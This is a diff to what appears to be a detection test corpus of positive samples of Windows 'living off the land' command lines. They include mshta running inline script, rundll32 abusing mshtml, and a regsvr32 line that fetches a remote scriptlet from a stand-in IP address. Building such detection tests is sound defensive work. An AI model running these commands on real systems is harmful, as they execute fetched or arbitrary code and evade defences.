@@ -574,6 +574,7 @@ CORE_POSITIVE: tuple[tuple[str, Lang, str], ...] = (
         BAT,
         'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")',
     ),
+    ("LOL-023", BAT, 'mshta "javascript:alert(document.title);close()"'),
     ("LOL-004", BAT, r"mshta C:\Users\Public\update.hta"),
     ("LOL-005", BAT, "regsvr32 /s /n /u /i:http://198.51.100.7/file.sct scrobj.dll"),
     ("LOL-006", BAT, 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)'),
